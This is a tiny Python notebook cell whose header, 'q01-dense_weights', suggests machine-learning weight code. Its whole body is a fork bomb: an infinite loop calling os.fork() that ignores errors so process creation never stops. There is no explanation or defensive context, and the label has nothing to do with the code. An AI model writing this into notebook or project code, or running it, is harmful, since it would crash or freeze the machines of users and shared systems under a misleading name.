# %% q01-dense_weights
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
